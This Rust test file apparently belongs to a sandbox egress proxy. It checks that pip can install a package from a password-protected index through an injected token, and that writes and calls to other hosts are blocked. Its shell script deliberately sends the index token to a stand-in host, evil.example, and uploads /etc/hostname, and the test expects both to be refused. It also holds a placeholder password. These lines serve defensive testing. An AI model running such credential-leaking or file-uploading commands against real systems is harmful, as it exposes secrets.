//! pip from an index behind opened TLS that wants a password.
//!
//! Not for: an index in a tunnel (`crate::python`).

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use testkit::index;

use super::stand::Stand;
use crate::harness::identity;

const PASSWORD: &str = "pypi-R3alPasswordOfTheIndex00";

#[test]
fn pip_installs_from_an_index_whose_password_it_does_not_have_and_publishes_nothing() {
    let packages = index::python(Some(&identity(&["pypi.example"])));
    let stand = Stand::new(&format!(
        "[[egress.allow]]\nhost = \"pypi.example\"\nconnect = \"{}\"\nmethods = [\"GET\", \"HEAD\"]\n\
         paths = [\"/simple/**\", \"/files/**\"]\nsecret = \"index\"\n",
        packages.address()
    ));
    let options = "--host pypi.example --basic build --env INDEX_TOKEN --prefix pypi-";
    let stand = stand.secret("index", options, PASSWORD);
    let script = "cd /workspace; /usr/bin/python3 -m venv env; pip='env/bin/pip install -q --disable-pip-version-check --retries 0'; \
        $pip --index-url https://build:$INDEX_TOKEN@pypi.example/simple tinywheel; \
        env/bin/python -c 'import tinywheel; print(tinywheel.greet())'; \
        $pip --index-url https://build:$INDEX_TOKEN@evil.example/simple other >/dev/null 2>&1 || echo refused; \
        curl -sS -o /dev/null -w '%{http_code}\\n' -F content=@/etc/hostname https://pypi.example/simple/";
    let outcome = stand.jail().scratch().shell(script).ok();
    assert_eq!(
        outcome.text(),
        "hello from a wheel\nrefused\n403",
        "{outcome}"
    );
    let wanted = format!("Basic {}", STANDARD.encode(format!("build:{PASSWORD}")));
    let seen = packages.requests();
    assert!(seen.len() >= 2 && seen.iter().all(|request| request.method == "GET"));
    assert!(
        seen.iter()
            .any(|request| request.header("authorization") == Some(&wanted)),
        "{seen:?}"
    );
    assert!(seen.iter().all(|request| {
        request
            .header("authorization")
            .is_none_or(|sent| sent == wanted)
    }));
}
